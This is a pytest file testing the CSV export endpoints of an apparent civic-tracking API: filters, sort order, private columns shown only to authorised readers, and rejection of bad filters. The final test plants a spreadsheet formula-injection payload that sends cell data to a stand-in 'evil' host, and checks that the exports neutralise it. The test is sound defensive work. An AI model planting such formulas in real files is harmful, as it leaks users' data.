"""CSV exports: the lists' filters and order, every page, private columns only for readers."""

import csv
import io

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session

from tests import factories
from tests.conftest import Credentials


def rows(client: TestClient, path: str, **headers: str) -> list[dict[str, str]]:
    r = client.get(path, headers=headers)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(r.text)))


def test_jurisdictions_export_all_matching_rows_in_the_list_order(client: TestClient) -> None:
    exported = rows(client, "/api/v1/export/jurisdictions.csv?state=CA&sort=-name")
    assert len(exported) == 59  # 58 counties and the state: more than a page of the list
    assert [r["name"] for r in exported] == sorted((r["name"] for r in exported), reverse=True)
    assert exported[0]["status"] == "no_action" and "private_notes" not in exported[0]


@pytest.mark.history
def test_event_exports_follow_their_filters(client: TestClient, session: Session) -> None:
    session.commit()
    opt_outs = rows(client, "/api/v1/export/votes.csv?state=CA&topic=opt_out")
    assert [r["held_on"] for r in opt_outs] == ["2010-09-28"]  # Santa Clara's
    related = rows(client, "/api/v1/export/votes.csv?state=CA&topic=detainer_policy")
    assert [r["held_on"] for r in related] == ["2013-10-05", "2011-10-18"]  # TRUST Act, county
    letters = rows(client, "/api/v1/export/letters.csv?purpose=opt_out_request&state=CA")
    assert {r["sent_on"] for r in letters} == {"2010-05-18", "2010-08-31"}
    assert rows(client, "/api/v1/export/responses.csv?kind=denied")
    assert any(r["kind"] == "ice" for r in rows(client, "/api/v1/export/agencies.csv"))


def test_private_columns_only_for_callers_who_may_see_them(
    client: TestClient, session: Session, credentials: Credentials
) -> None:
    j = factories.jurisdiction(session, "06001")
    factories.vote(session, j, private_notes="Supervisor Chan is persuadable")
    session.commit()
    anonymous = client.get("/api/v1/export/votes.csv").text
    assert "private_notes" not in anonymous and "persuadable" not in anonymous
    reader = rows(client, "/api/v1/export/votes.csv", **credentials.headers("read"))
    assert reader[0]["private_notes"] == "Supervisor Chan is persuadable"


def test_bad_filters_are_refused_before_anything_streams(client: TestClient) -> None:
    r = client.get("/api/v1/export/jurisdictions.csv?sort=nonsense")
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "sort"
    assert client.get("/api/v1/export/votes.csv?outcome=maybe").status_code == 422


def test_cells_a_spreadsheet_would_run_are_quoted(
    client: TestClient, session: Session, credentials: Credentials
) -> None:
    j = factories.jurisdiction(session, "06001")
    j.public_notes = "=1+1"
    factories.vote(session, j, body='=HYPERLINK("http://evil/?"&A1,"x")', measure="@SUM(1+1)")
    session.commit()
    vote = rows(client, "/api/v1/export/votes.csv")[0]
    assert vote["body"].startswith("'=HYPERLINK") and vote["measure"] == "'@SUM(1+1)"
    alameda = rows(client, "/api/v1/export/jurisdictions.csv?fips=06001")[0]
    assert alameda["public_notes"] == "'=1+1" and alameda["population"] == ""
